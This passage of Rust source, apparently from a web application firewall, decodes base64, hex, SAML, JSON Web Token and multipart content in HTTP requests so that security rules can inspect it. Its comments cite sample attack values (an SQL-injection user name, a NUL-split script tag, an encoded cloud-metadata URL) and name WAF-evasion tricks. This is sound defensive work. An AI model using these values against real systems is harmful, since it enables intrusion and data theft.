        }
        text.extend_from_slice(&crate::normalize::html_decode(raw));
        i += end;
    }
    if !flush(&stack, &mut text, emit) {
        return XmlEnd::Stopped;
    }
    XmlEnd::Read {
        well_formed: ok && stack.is_empty() && saw_element,
    }
}

/// The most bytes an XML document carried in an argument is decoded to.
const MAX_EMBEDDED_XML: usize = 256 * 1024;

/// The XML document an argument carries encoded, if it carries one: base64 of an XML document
/// (a SAML message of the HTTP-POST binding, `SAMLResponse=PD94bWwg…`; SOAP-over-form
/// gateways), or, for the parameters the SAML bindings name (`SAMLRequest`, `SAMLResponse`),
/// base64 of a raw DEFLATE stream of one (the HTTP-Redirect binding). The application
/// decodes and parses it: what it holds is judged like an XML body's values, and the document
/// whole like an uploaded file's content. Spaces are read as `+` (a form decoder made them
/// so), line breaks are ignored; at most [`MAX_EMBEDDED_XML`] bytes are decoded.
pub(crate) fn embedded_xml(name: &[u8], value: &[u8]) -> Option<Vec<u8>> {
    // (base64 of `<` starts with `P`; a DEFLATE stream can start with anything.)
    let saml =
        name.eq_ignore_ascii_case(b"SAMLRequest") || name.eq_ignore_ascii_case(b"SAMLResponse");
    // (Not spaces: in base64 a space is a `+` that a form decoder read as one.)
    let edge = |b: &u8| matches!(b, b'\r' | b'\n' | b'\t');
    let start = value.iter().position(|b| !edge(b)).unwrap_or(value.len());
    let end = value
        .iter()
        .rposition(|b| !edge(b))
        .map_or(start, |e| e + 1);
    let t = value.get(start..end).unwrap_or_default();
    if t.len() < 24 || !(saml || t.first() == Some(&b'P')) {
        return None;
    }
    let mut text = Vec::with_capacity(t.len());
    for &b in t {
        match b {
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'+' | b'/' | b'=' | b'-' | b'_' => {
                text.push(b)
            }
            b' ' => text.push(b'+'),
            b'\r' | b'\n' | b'\t' => {}
            _ => return None,
        }
    }
    let decoded = crate::normalize::decode_base64(&text)?;
    if looks_like_xml(&decoded) {
        return Some(decoded).filter(|d| d.len() <= MAX_EMBEDDED_XML);
    }
    if !saml {
        return None;
    }
    let (inflated, _) = inflate(
        flate2::read::DeflateDecoder::new(decoded.as_slice()),
        decoded.len(),
        MAX_EMBEDDED_XML,
        true,
    )?;
    looks_like_xml(&inflated).then_some(inflated)
}

/// Whether bytes begin like an XML document: after a byte-order mark and whitespace, a `<`
/// and then `!`, the first letter of an element name, or `?xml` (the declaration, or a
/// stylesheet instruction). Other processing instructions begin no XML document: `<?php`
/// and `<?=` are PHP.
pub(crate) fn looks_like_xml(b: &[u8]) -> bool {
    let b = b
        .strip_prefix(b"\xef\xbb\xbf")
        .unwrap_or(b)
        .trim_ascii_start();
    match b {
        [b'<', b'?', rest @ ..] => rest
            .get(..3)
            .is_some_and(|x| x.eq_ignore_ascii_case(b"xml")),
        [b'<', c, ..] => c.is_ascii_alphabetic() || matches!(c, b'!' | b'_'),
        _ => false,
    }
}

/// A form or multipart field carrying an encoded XML document ([`embedded_xml`]): the document
/// is judged whole as a file's content (`FILES_CONTENT:SAMLResponse`: external entities,
/// XSLT), and its text and attribute values as more arguments under the field's name
/// (`SAMLResponse.samlp:Response.saml:Assertion.saml:Subject.saml:NameID`). Returns false
/// when the argument limit stops it.
fn xml_in_field(req: &mut InspectedRequest, origin: Origin, name: &str, value: &[u8]) -> bool {
    let Some(doc) = embedded_xml(name.as_bytes(), value) else {
        return text_in_field(req, origin, name, value, true, true);
    };
    req.push_body_item(Part::FileContent, origin, name, &doc);
    let max_depth = req.limits().max_depth;
    let mut path = String::with_capacity(name.len() + 64);
    let end = walk_xml(&doc, max_depth, &mut |p, key, value| {
        path.clear();
        path.push_str(name);
        path.push('.');
        path.push_str(p);
        req.push_body_arg(origin, &path, key, value)
    });
    end != XmlEnd::Stopped && text_in_field(req, origin, name, value, true, false)
}

/// The shortest base64 value looked into for a text document.
const MIN_EMBEDDED_TEXT: usize = 32;
/// The shortest base64 value whose text is judged as an argument too ([`base64_arg`]): 9
/// bytes of text (`(alert)(1)`); random tokens of this length decode to text about once in
/// ten thousand.
const MIN_BASE64_ARG: usize = 12;
/// The longest text [`base64_arg`] gives: a longer one is a document, judged as a file's.
const MAX_BASE64_ARG: usize = 1024;

/// The text an argument carries base64-encoded, if it carries text: a whole value of the
/// base64 alphabet (standard or URL-safe; line breaks ignored; spaces read as `+` when
/// `plus_as_space`, where a form decoder made them so) that decodes to UTF-8 text of 16 bytes
/// or more with no control characters but tabs and line breaks. What APIs carry this way is a
/// document the application decodes and stores or shows: a repository file (`PUT
/// /repos/…/contents/README.md`), an e-mail attachment, an imported sheet. Random identifiers
/// and binary data decode to bytes that are not text and are left alone.
#[cfg(test)]
pub(crate) fn embedded_text(value: &[u8], plus_as_space: bool) -> Option<Vec<u8>> {
    base64_text(value, plus_as_space, MIN_EMBEDDED_TEXT, 16).map(unwrap_base64)
}

/// The text a short argument carries base64-encoded (16 characters or more, decoding to a line
/// of 8 to [`MAX_BASE64_ARG`] bytes of text, as [`embedded_text`] reads it; text of several
/// lines is a document, a repository file's, and judged as one), judged as one more
/// argument (`ARGS:q.base64`) by every argument rule: applications decode such values and
/// use them as they would the plain ones (a return URL, a filter, a search, a file name), and
/// a payload wrapped in base64 passes a WAF that reads only the letters.
pub(crate) fn base64_arg(value: &[u8], plus_as_space: bool) -> Option<Vec<u8>> {
    base64_text(value, plus_as_space, MIN_BASE64_ARG, 8)
        .map(unwrap_base64)
        .filter(|t| t.len() <= MAX_BASE64_ARG && !t.contains(&b'\n'))
}

/// How many more times [`unwrap_base64`] decodes text that is base64 again.
const MAX_BASE64_NESTING: usize = 2;

/// Text that is itself base64 of text (`cfg=Y21WbmFXOXU…`: encoded twice, by a client that
/// encodes what an SDK encoded already) decoded again, up to [`MAX_BASE64_NESTING`] times.
fn unwrap_base64(mut text: Vec<u8>) -> Vec<u8> {
    for _ in 0..MAX_BASE64_NESTING {
        match base64_text(&text, false, MIN_BASE64_ARG, 8) {
            Some(inner) => text = inner,
            None => break,
        }
    }
    text
}

/// The base64 text a value carries, decoded once: as a document ([`embedded_text`]) and as an
/// argument ([`base64_arg`]).
pub(crate) fn base64_carried(
    value: &[u8],
    plus_as_space: bool,
) -> (Option<Vec<u8>>, Option<Vec<u8>>) {
    let Some(text) = base64_text(value, plus_as_space, MIN_BASE64_ARG, 8).map(unwrap_base64) else {
        return (None, None);
    };
    let doc = value.len() >= MIN_EMBEDDED_TEXT && text.len() >= 16;
    let arg = text.len() <= MAX_BASE64_ARG && !text.contains(&b'\n');
    match (doc, arg) {
        (true, true) => (Some(text.clone()), Some(text)),
        (true, false) => (Some(text), None),
        (false, true) => (None, Some(text)),
        (false, false) => (None, None),
    }
}

/// The texts a request path carries base64-encoded ([`base64_arg`]): the path after its
/// first `/`, whole (base64's own alphabet has `/`), or one of its segments. Image proxies
/// and signed-URL services carry a source URL or a file name this way
/// (`/insecure/rs:fit:300/aHR0cDovLzE2OS4yNTQuMTY5LjI1NC8`).
pub(crate) fn path_base64(path: &[u8]) -> Option<Vec<u8>> {
    let rest = path.strip_prefix(b"/").unwrap_or(path);
    if rest.len() < MIN_BASE64_ARG {
        return None;
    }
    base64_arg(rest, false).or_else(|| {
        rest.split(|&b| b == b'/')
            .filter(|seg| seg.len() >= MIN_BASE64_ARG && seg.len() < rest.len())
            .find_map(|seg| base64_arg(seg, false))
    })
}

/// The fewest bytes of text a hex-encoded argument gives ([`hex_arg`]): random bytes (a
/// hash, a key, a wallet address) are all printable ASCII once in about 150,000 at this
/// length, and a longer hash (SHA-1's 20 bytes) practically never.
const MIN_HEX_TEXT: usize = 12;

/// The text an argument carries hex-encoded (`?q=31204f52…`, `"msg": "0x3c736372…"`):
/// applications that pass data through `hex2bin`, `bytes.fromhex` or `Buffer.from(v,
/// 'hex')`. A whole value of an even number of hex digits (after an optional `0x`) that
/// decodes to one line of UTF-8 text, [`MIN_HEX_TEXT`] to [`MAX_BASE64_ARG`] bytes with no
/// control characters, is judged as one more argument (`ARGS:q.hex`). Hashes, keys and
/// identifiers decode to bytes that are not text.
pub(crate) fn hex_arg(value: &[u8]) -> Option<Vec<u8>> {
    let digits = value.trim_ascii();
    let digits = digits
        .strip_prefix(b"0x")
        .or_else(|| digits.strip_prefix(b"0X"))
        .unwrap_or(digits);
    if digits.len() < MIN_HEX_TEXT * 2
        || digits.len() > MAX_BASE64_ARG * 2
        || digits.len() % 2 != 0
        || !digits.iter().all(u8::is_ascii_hexdigit)
    {
        return None;
    }
    let hex = crate::normalize::hex_val;
    let bytes = digits
        .chunks_exact(2)
        .map(|p| match p {
            [h, l] => Some((hex(*h)? << 4) | hex(*l)?),
            _ => None,
        })
        .collect::<Option<Vec<u8>>>()?;
    let text = std::str::from_utf8(&bytes).ok()?;
    (!text.chars().any(|c| c.is_control() && c != '\t')).then_some(bytes)
}

/// The longest value read as a JSON Web Token ([`jwt_documents`]): tokens with many claims
/// (Azure AD's group lists) stay well under it.
const MAX_JWT: usize = 16 << 10;

/// The JSON documents a JSON Web Token carries (RFC 7519, compact form: base64url segments
/// joined by dots): its header (`jwt.header`) and, when it is signed rather than encrypted
/// (three segments, not five), its claims (`jwt.payload`). Applications read these after
/// decoding: a key id names a file or a database row, a `sub` or `tenant` goes into a query,
/// a `name` or `picture` onto a page; services that take an unsigned token (`alg: none`) or
/// log a claim before checking the signature are open to whatever the client wrote. Only a
/// segment that decodes to a JSON object is given. `value` is trimmed, and `dots` its
/// [`jwt_dots`].
fn jwt_documents(value: &[u8], dots: usize) -> Vec<(&'static str, Vec<u8>)> {
    let mut segments = value.split(|&b| b == b'.');
    let header = segments.next();
    let payload = segments.next().filter(|_| dots == 2);
    let object = |seg: &[u8]| {
        let doc = crate::normalize::decode_base64(seg)?;
        (doc.trim_ascii_start().first() == Some(&b'{') && may_hold_json_bytes(&doc)).then_some(doc)
    };
    let Some(header) = header.and_then(object) else {
        return Vec::new();
    };
    let mut docs = vec![("jwt.header", header)];
    if let Some(claims) = payload.and_then(object) {
        docs.push(("jwt.payload", claims));
    }
    docs
}

/// Claims and header parameters whose meaning the JWT and OpenID specifications fix and
/// the issuer sets: identifiers, times, audiences and issuers (Kubernetes service-account
/// tokens name `https://kubernetes.default.svc` as both), scopes (`patient/*.read`),
/// hashes and key thumbprints. Applications compare them; they are not judged as text. The
/// key lookup (`kid`, `jku`, `x5u`, `jwk`) is generic-189's, which knows a key id from a
/// break-out (key ids are random base64url: `0--rXt3h…` reads as SQL to a tokenizer). `sub`,
/// names, e-mail addresses and an application's own claims are judged.
fn jwt_registered(claim: &str) -> bool {
    matches!(
        claim,
        "kid"
            | "jku"
            | "x5u"
            | "jwk"
            | "iss"
            | "aud"
            | "exp"
            | "nbf"
            | "iat"
            | "jti"
            | "sid"
            | "azp"
            | "nonce"
            | "auth_time"
            | "at_hash"
            | "c_hash"
            | "s_hash"
            | "acr"
            | "amr"
            | "scope"
            | "scp"
            | "cnf"
            | "client_id"
            | "typ"
            | "cty"
            | "alg"
            | "enc"
            | "zip"
            | "crit"
            | "x5t"
            | "x5t#S256"
            | "x5c"
            | "b64"
            | "ver"
            | "uti"
            | "rh"
            | "tid"
            | "oid"
            | "appid"
            | "idp"
            | "sub_jwk"
    )
}

/// Tokens a thread remembers decoded ([`jwt_leaves`]).
const JWT_MEMORY: usize = 32;

/// A thread's most recently decoded tokens: (hash, name and token, leaves), newest last.
/// A client sends its token with every call until it expires, and decoding one (base64, a
/// JSON parse, a name per claim) costs several times what judging its remembered values
/// does. At most [`JWT_MEMORY`] tokens of at most [`MAX_JWT`] bytes each.
struct JwtMemory {
    hasher: foldhash::fast::RandomState,
    entries: std::collections::VecDeque<(u64, Vec<u8>, std::rc::Rc<crate::request::JsonLeaves>)>,
}

thread_local! {
    static JWT_TOKENS: std::cell::RefCell<JwtMemory> = std::cell::RefCell::new(JwtMemory {
        hasher: foldhash::fast::RandomState::default(),
        entries: std::collections::VecDeque::with_capacity(JWT_MEMORY),
    });
}

/// The values of a JSON Web Token's header and claims ([`jwt_documents`]) as (name, key,
/// value), named `name.jwt.header.kid`, `name.jwt.payload.sub`; not the registered ones
/// ([`jwt_registered`]). None when `value` is not a token, or gives no such value.
pub(crate) fn jwt_leaves(
    value: &[u8],
    name: &str,
    max_depth: usize,
) -> Option<std::rc::Rc<crate::request::JsonLeaves>> {
    use std::hash::BuildHasher as _;
    let value = value.trim_ascii();
    // (The cheap test first: most values are not tokens.)
    let dots = jwt_dots(value)?;
    let mut key = Vec::with_capacity(name.len() + value.len() + 16);
    key.extend_from_slice(&name.len().to_le_bytes());
    key.extend_from_slice(name.as_bytes());
    key.extend_from_slice(&max_depth.to_le_bytes());
    key.extend_from_slice(value);
    let remembered = JWT_TOKENS.with(|m| {
        let m = m.borrow();
        let hash = m.hasher.hash_one(&key);
        let found = m
            .entries
            .iter()
            .find(|(h, k, _)| *h == hash && *k == key)
            .map(|(_, _, leaves)| leaves.clone());
        (hash, found)
    });
    let hash = match remembered {
        (_, Some(leaves)) => return Some(leaves),
        (hash, None) => hash,
    };
    let mut leaves = Vec::new();
    for (doc_name, doc) in jwt_documents(value, dots) {
        let doc_name = format!("{name}.{doc_name}");
        let all = crate::request::json_leaves(&doc, &doc_name, max_depth);
        leaves.extend(all.into_iter().filter(|(leaf, _, _)| {
            let claim = leaf.get(doc_name.len() + 1..).unwrap_or_default();
            let claim = claim.split(['.', '[']).next().unwrap_or_default();
            !jwt_registered(claim)
        }));
    }
    // Only tokens are remembered: other dotted values stay cheap to turn down.
    if leaves.is_empty() {
        return None;
    }
    let leaves = std::rc::Rc::new(leaves);
    JWT_TOKENS.with(|m| {
        let mut m = m.borrow_mut();
        if m.entries.len() >= JWT_MEMORY {
            m.entries.pop_front();
        }
        m.entries.push_back((hash, key, leaves.clone()));
    });
    Some(leaves)
}

/// The number of dots of a value written as a compact JSON Web Token (base64url segments,
/// two dots when signed, four when encrypted), if it is written so.
fn jwt_dots(value: &[u8]) -> Option<usize> {
    // (A token starts with its header, `{"…` encoded: `ey`, or `ew` after a line break.)
    if value.len() > MAX_JWT || value.first() != Some(&b'e') {
        return None;
    }
    let dots = memchr::memchr_iter(b'.', value).count();
    let well_formed = matches!(dots, 2 | 4)
        && value
            .iter()
            .all(|&b| b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_' | b'.' | b'='));
    well_formed.then_some(dots)
}

/// What follows `scheme` (with its space, any case) in an `Authorization` (or
/// `Proxy-Authorization`) header.
fn credentials<'a>(value: &'a [u8], scheme: &[u8]) -> Option<&'a [u8]> {
    let value = value.trim_ascii();
    value
        .get(..scheme.len())?
        .eq_ignore_ascii_case(scheme)
        .then(|| value.get(scheme.len()..))
        .flatten()
}

/// The token of an `Authorization` (or `Proxy-Authorization`) header's `Bearer` scheme.
pub(crate) fn bearer_token(value: &[u8]) -> Option<&[u8]> {
    credentials(value, b"bearer ")
}

/// The user name of an `Authorization` (or `Proxy-Authorization`) header's `Basic` scheme,
/// up to the first colon as RFC 7617 and servers read it: text the client chose, which
/// applications look up and log (`admin' OR 1=1--` as a user name). The password is left
/// alone: OAuth clients send machine-made secrets of every punctuation there. Credentials that
/// are not base64 of UTF-8 `user:password` give none.
pub(crate) fn basic_user(value: &[u8]) -> Option<String> {
    let plain = crate::normalize::decode_base64(credentials(value, b"basic ")?.trim_ascii())?;
    let text = String::from_utf8(plain).ok()?;
    let (user, _) = text.split_once(':')?;
    (!user.is_empty()).then(|| user.to_string())
}

/// See [`embedded_text`]: a value of `min_value` characters or more, text of `min_text` bytes
/// or more (with NULs only in longer ASCII text: [`nul_in_ascii_text`]).
fn base64_text(
    value: &[u8],
    plus_as_space: bool,
    min_value: usize,
    min_text: usize,
) -> Option<Vec<u8>> {
    let fits = |b: &u8| {
        crate::normalize::is_base64_byte(*b)
            || matches!(b, b'\r' | b'\n')
            || (plus_as_space && *b == b' ')
    };
    if value.len() < min_value || !value.iter().all(fits) {
        return None;
    }
    // Copied only when line breaks or spaces must go (most values have none).
    let text: Cow<'_, [u8]> = if value.iter().any(|&b| matches!(b, b'\r' | b'\n' | b' ')) {
        let mut t = Vec::with_capacity(value.len());
        t.extend(
            value
                .iter()
                .filter(|&&b| b != b'\r' && b != b'\n')
                .map(|&b| if b == b' ' { b'+' } else { b }),
        );
        Cow::Owned(t)
    } else {
        Cow::Borrowed(value)
    };
    // (A run of letters and digits alone is an identifier or a hash as often as base64: it
    // must decode to text, which hex and random tokens do not.)
    let mut decoded = crate::normalize::decode_base64(&text)?;
    // Compressed before it was encoded (`zlib.compress`, `gzcompress`: share links, state
    // parameters): its text is what the application reads.
    if let Some(inflated) = crate::normalize::inflate_small(&decoded, MAX_EMBEDDED_XML) {
        decoded = inflated;
    }
    let s = std::str::from_utf8(&decoded).ok()?;
    let text_like = s.len() >= min_text
        && (!s
            .chars()
            .any(|c| c.is_control() && !matches!(c, '\t' | '\n' | '\r'))
            || nul_in_ascii_text(&decoded));
    text_like.then_some(decoded)
}

/// Printable ASCII of 16 bytes or more with NULs in it (`<scr\0ipt src=…>`: a NUL that a
/// filter skips and a browser drops). Short text with a NUL is what random identifiers decode
/// to (`AMuX6oykza1Y`); 15 random bytes are all printable once in about three million.
fn nul_in_ascii_text(text: &[u8]) -> bool {
    let nuls = text.iter().filter(|&&b| b == 0).count();
    // (At least as much text as NULs: UTF-16 text has one per character; zeros are no text.)
    text.len() >= 16
        && nuls > 0
        && nuls * 2 <= text.len()
        && text
            .iter()
            .all(|&b| b == 0 || matches!(b, b'\t' | b'\n' | b'\r' | 0x20..=0x7e))
}

/// A field carrying base64 text. A document ([`embedded_text`]) is judged as a file's
/// content, `FILES_CONTENT:NAME.base64` (by the rules for documents: template injection,
/// Log4Shell, formulas, script in SVG and HTML files, XXE), not as an argument: a repository
/// file holds code by design. Text up to [`MAX_BASE64_ARG`] bytes ([`base64_arg`]) is an
/// argument too, `ARGS:NAME.base64`. Without `documents` (the caller read the value as an XML
/// document already), only the argument. Returns false when the argument limit stops it.
fn text_in_field(
    req: &mut InspectedRequest,
    origin: Origin,
    name: &str,
    value: &[u8],
    plus_as_space: bool,
    documents: bool,
) -> bool {
    let (doc, arg) = base64_carried(value, plus_as_space);
    if let Some(text) = doc.filter(|_| documents) {
        req.push_body_item(Part::FileContent, origin, &format!("{name}.base64"), &text);
    }
    if let Some(text) = arg {
        return req.push_body_arg(origin, &format!("{name}.base64"), None, &text);
    }
    if let Some(text) = hex_arg(value) {
        return req.push_body_arg(origin, &format!("{name}.hex"), None, &text);
    }
    jwt_in_field(req, origin, name, value)
}

/// A field holding a JSON Web Token ([`jwt_documents`]): the values of its header and claims
/// as more arguments (`id_token.jwt.payload.sub`), their keys as argument names. Returns false
/// when the argument limit stops it.
fn jwt_in_field(req: &mut InspectedRequest, origin: Origin, name: &str, value: &[u8]) -> bool {
    let max_depth = req.limits().max_depth;
    jwt_leaves(value, name, max_depth).is_none_or(|leaves| {
        leaves.iter().all(|(leaf, key, v)| {
            req.push_body_arg(origin, leaf, key.as_deref().map(str::as_bytes), v)
        })
    })
}

fn find_after(hay: &[u8], needle: &[u8]) -> Option<usize> {
    memchr::memmem::find(hay, needle).map(|p| p + needle.len())
}

/// Length of a `<!…>` or `<?…?>` declaration, counting nested `[ … ]` (internal DTD subset).
fn skip_declaration(rest: &[u8]) -> usize {
    let mut depth = 0usize;
    let mut quote: Option<u8> = None;
    for (i, &b) in rest.iter().enumerate() {
        match quote {
            Some(q) if b == q => quote = None,
            Some(_) => {}
            None => match b {
                b'"' | b'\'' => quote = Some(b),
                b'[' => depth += 1,
                b']' => depth = depth.saturating_sub(1),
                b'>' if depth == 0 => return i + 1,
                _ => {}
            },
        }
    }
    rest.len()
}

/// Index of the `>` closing a start tag, skipping quoted attribute values.
fn tag_end(rest: &[u8]) -> usize {
    let mut quote: Option<u8> = None;
    for (i, &b) in rest.iter().enumerate().skip(1) {
        match quote {
            Some(q) if b == q => quote = None,
            Some(_) => {}
            None => match b {
                b'"' | b'\'' => quote = Some(b),
                b'>' => return i,
                _ => {}
            },
        }
    }
    rest.len()
}

fn xml_attributes(s: &[u8]) -> Vec<(String, Vec<u8>)> {
    let mut out = Vec::new();
    let mut i = 0;
    while i < s.len() {
        while s.get(i).is_some_and(|b| b.is_ascii_whitespace()) {
            i += 1;
        }
        let start = i;
        while s
            .get(i)
            .is_some_and(|&b| b != b'=' && !b.is_ascii_whitespace())
        {
            i += 1;
        }
        let name = String::from_utf8_lossy(s.get(start..i).unwrap_or_default()).into_owned();
        while s.get(i).is_some_and(|b| b.is_ascii_whitespace()) {
            i += 1;
        }
        if s.get(i) != Some(&b'=') {
            if name.is_empty() {
                i += 1;
            }
            continue;
        }
        i += 1;
        while s.get(i).is_some_and(|b| b.is_ascii_whitespace()) {
            i += 1;
        }
        let value = match s.get(i) {
            Some(&q @ (b'"' | b'\'')) => {
                let inner = s.get(i + 1..).unwrap_or_default();
                let end = memchr::memchr(q, inner).unwrap_or(inner.len());
                i += end + 2;
                inner.get(..end).unwrap_or_default().to_vec()
            }
            _ => {
                let v_start = i;
                while s.get(i).is_some_and(|b| !b.is_ascii_whitespace()) {
                    i += 1;
                }
                s.get(v_start..i).unwrap_or_default().to_vec()
            }
        };
        if !name.is_empty() {
            out.push((name, value));
        }
    }
    out
}

// === multipart ===

/// Extracts the boundary parameter. Flags boundaries a strict parser and a lenient one
/// would read differently (repeated parameter, unbalanced quotes, forbidden characters),
/// a classic way to slip a body past a WAF.
fn multipart_boundary(req: &mut InspectedRequest, ct: &str) -> Option<String> {
    let mut found: Vec<String> = Vec::new();
    for param in ct.split(';').skip(1) {
        let Some((k, v)) = param.split_once('=') else {
            continue;
        };
        if k.trim() != "boundary" {
            continue;
        }
        let v = v.trim();
        let quoted = v.starts_with('"');
        let inner = if quoted {
            if v.len() < 2 || !v.ends_with('"') {
                req.add_anomaly(Anomaly::MultipartBadBoundary);
            }
            v.trim_matches('"')
        } else {
            v
        };
        if inner.contains(['"', '\'', ',', '\\'])
            || inner.len() > 70
            || inner.chars().any(|c| c.is_control())
        {
            req.add_anomaly(Anomaly::MultipartBadBoundary);
        }
        found.push(inner.to_string());
    }
    if found.len() > 1 {
        req.add_anomaly(Anomaly::MultipartBadBoundary);
    }
    found.into_iter().next().filter(|b| !b.is_empty())
}

/// How deep multipart entities nest inside one another before the innermost is judged as it
/// is (a batch's changeset is one level, a signed message inside a report another).
const MAX_MIME_DEPTH: usize = 4;

/// A multipart body's parts, `ct` the multipart's content type as sent (its boundary's case
/// matters). In a form (`form`), each part is a field or a file named by its
/// `Content-Disposition: form-data`; in the other kinds (`mixed`: batch APIs; `related`:
/// DICOMweb STOW, MTOM, resumable uploads' metadata and media; `alternative`; `signed`,
/// `encrypted`, `report`: mail and AS2 messages), parts are documents that need no
/// disposition, and a part that is itself multipart (an OData changeset, a signed entity) is
/// read the same way, `depth` levels down.
fn parse_multipart(
    req: &mut InspectedRequest,
    ct: &str,
    body: &[u8],
    form: bool,
    depth: usize,
) -> bool {
    let Some(boundary) = multipart_boundary(req, ct) else {
        req.add_anomaly(Anomaly::MultipartNoBoundary);
        return false;
    };
    let delim = format!("--{boundary}").into_bytes();
    let Some(first) = memchr::memmem::find(body, &delim) else {
        req.add_anomaly(Anomaly::MultipartUnterminated);
        return false;
    };
    if !crate::normalize::trim(body.get(..first).unwrap_or_default()).is_empty() {
        req.add_anomaly(Anomaly::MultipartStrayData);
    }
    let finder = memchr::memmem::Finder::new(&delim);
    let mut pos = first + delim.len();
    let mut parts = 0usize;
    let mut terminated = false;
    loop {
        let rest = body.get(pos..).unwrap_or_default();
        if rest.starts_with(b"--") {
            terminated = true;
            let after = crate::normalize::trim(rest.get(2..).unwrap_or_default()).into_owned();
            if !after.is_empty() {
                req.add_anomaly(Anomaly::MultipartStrayData);
            }
            break;
        }
        // The line after the delimiter (transport padding, then CRLF).
        let Some(eol) = memchr::memchr(b'\n', rest) else {
            break;
        };
        let part_start = pos + eol + 1;
        let part_area = body.get(part_start..).unwrap_or_default();
        let Some(next) = finder.find(part_area) else {
            // No further delimiter: the body ends inside a part. Inspect what is there.
            handle_part(req, part_area, &mut parts, form, depth);
            break;
        };
        // The part ends before the CRLF that precedes the next delimiter.
        let mut part = part_area.get(..next).unwrap_or_default();
        part = part.strip_suffix(b"\n").unwrap_or(part);
        part = part.strip_suffix(b"\r").unwrap_or(part);
        if !handle_part(req, part, &mut parts, form, depth) {
            return true;
        }
        pos = part_start + next + delim.len();
    }
    // A body cut at the inspection limit is unterminated by construction.
    if !terminated && !req.anomalies().contains(&Anomaly::BodyTruncated) {
        req.add_anomaly(Anomaly::MultipartUnterminated);
    }
    true
}

/// Splits `a; b="x;y"; c` at semicolons outside double quotes.
fn split_params(v: &str) -> Vec<&str> {
    let mut out = Vec::new();
    let mut start = 0;
    let mut quoted = false;
    let mut escaped = false;
    for (i, c) in v.char_indices() {
        match c {
            '\\' if quoted => escaped = !escaped,
            '"' if !escaped => quoted = !quoted,
            ';' if !quoted => {
                out.push(v.get(start..i).unwrap_or_default());
                start = i + 1;
            }
            _ => escaped = false,
        }
        if c != '\\' {
            escaped = false;
        }
    }
    out.push(v.get(start..).unwrap_or_default());
    out
}

/// The value of an RFC 5987 extended parameter (`utf-8'en'na%C3%AFve.txt`): the
/// percent-decoded text after the charset and language; as given when it has no such prefix.
/// A file name written as MIME encoded-words (RFC 2047: `=?utf-8?B?…?=`, several separated
/// by white space), which .NET's `MultipartFormDataContent` sends for a name outside ASCII
/// beside `filename*`, decoded; `None` when it is not one.
fn encoded_words(v: &str) -> Option<Vec<u8>> {
    let mut out = Vec::new();
    for word in v.split_ascii_whitespace() {
        let inner = word.strip_prefix("=?")?.strip_suffix("?=")?;
        let mut it = inner.splitn(3, '?');
        let (_charset, coding, text) = (it.next()?, it.next()?, it.next()?);
        match coding {
            "B" | "b" => out.extend(crate::normalize::decode_base64(text.as_bytes())?),
            "Q" | "q" => {
                let spaced = text.replace('_', " ").replace('=', "%");
                out.extend_from_slice(&crate::normalize::url_decode(spaced.as_bytes()));
            }
            _ => return None,
        }
    }
    (!out.is_empty()).then_some(out)
}

fn ext_value(v: &str) -> Vec<u8> {
    let mut pieces = v.splitn(3, '\'');
    match (pieces.next(), pieces.next(), pieces.next()) {
        (Some(_charset), Some(_lang), Some(text)) => {
            crate::normalize::url_decode(text.as_bytes()).into_owned()
        }
        _ => v.as_bytes().to_vec(),
    }
}

/// Most cells or property values one uploaded table or calendar gives as arguments.
const MAX_RECORD_VALUES: usize = 512;

/// What an uploaded or `PUT` file holds records of, by its media type or file name.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Records {
    /// CSV or TSV: cells.
    Table,
    /// iCalendar or vCard: property values.
    Directory,
    /// An X12 interchange (`ISA*…~`) or an HL7 v2 message (`MSH|^~\&|…`): the elements or
    /// fields of its segments, with the separators the message declares in its first segment.
    Segments,
}

/// See [`Records`]; `mime` lowercased, without parameters.
fn records_kind(mime: Option<&str>, filename: &[u8]) -> Option<Records> {
    let ext = filename
        .rsplit(|&b| b == b'.')
        .next()
        .filter(|_| filename.contains(&b'.'))
        .map(<[u8]>::to_ascii_lowercase);
    match (mime.unwrap_or_default(), ext.as_deref()) {
        ("text/csv" | "text/x-csv" | "application/csv" | "text/tab-separated-values", _)
        | (_, Some(b"csv" | b"tsv")) => Some(Records::Table),
        ("text/calendar" | "text/vcard" | "text/x-vcard" | "text/directory", _)
        | (_, Some(b"ics" | b"ifb" | b"vcf" | b"vcard")) => Some(Records::Directory),
        (
            "application/edi-x12"
            | "application/hl7-v2"
            | "x-application/hl7-v2+er7"
            | "application/x-hl7",
            _,
        )
        | (_, Some(b"x12" | b"hl7")) => Some(Records::Segments),
        _ => None,
    }
}

/// The cells of an uploaded table, or the property values of an uploaded calendar or
/// contact file, as more body arguments (`BODY:multipart.file[3][2]`, `BODY:multipart.file.SUMMARY`):
/// an import writes each into the application's database, templates and logs like a form
/// field. At most [`MAX_RECORD_VALUES`] per file, and they do not count against `max_args`
/// (an import of thousands of rows is ordinary); numbers and empty cells are left out.
fn push_records(
    req: &mut InspectedRequest,
    origin: Origin,
    name: &str,
    kind: Records,
    text: &[u8],
) {
    // A cell or value worth judging: not empty, not a number or a date.
    let text_of = |value: &[u8]| -> Option<Vec<u8>> {
        let v = value.trim_ascii();
        (!v.is_empty()
            && !v
                .iter()
                .all(|b| b.is_ascii_digit() || b"+-.,: /".contains(b)))
        .then(|| v.to_vec())
    };
    // Each value goes in under the file's name, while the budget lasts.
    let mut budget = MAX_RECORD_VALUES;
    let mut put = |path: String, value: &[u8]| -> bool {
        if budget == 0 {
            return false;
        }
        budget -= 1;
        req.push_record_arg(origin, &path, value);
        true
    };
    let dotted = |field: String| {
        if name.is_empty() {
            field
        } else {
            format!("{name}.{field}")
        }
    };
    match kind {
        Records::Table => {
            let sep = table_separator(text);
            for (row, cells) in table_rows(text, sep).enumerate() {
                for (col, cell) in cells.iter().enumerate() {
                    let Some(v) = text_of(cell) else { continue };
                    if !put(format!("{name}[{row}][{col}]"), &v) {
                        return;
                    }
                }
            }
        }
        Records::Directory => {
            for line in unfolded_lines(text) {
                let Some((prop, value)) = property(&line) else {
                    continue;
                };
                let Some(v) = text_of(&unescape_text(value)) else {
                    continue;
                };
                if !put(dotted(prop), &v) {
                    return;
                }
            }
        }
        Records::Segments => {
            for (field, value) in segment_fields(text) {
                let Some(v) = text_of(value) else { continue };
                if !put(dotted(field), &v) {
                    return;
                }
            }
        }
    }
}

/// The fields of an X12 interchange or an HL7 v2 message, named `SEGMENT.N` (`NM1.3`,
/// `PID.5`), split with the separators the first segment declares: X12's element separator is
/// the byte after `ISA` and its segment terminator the 106th byte; HL7's field separator is the
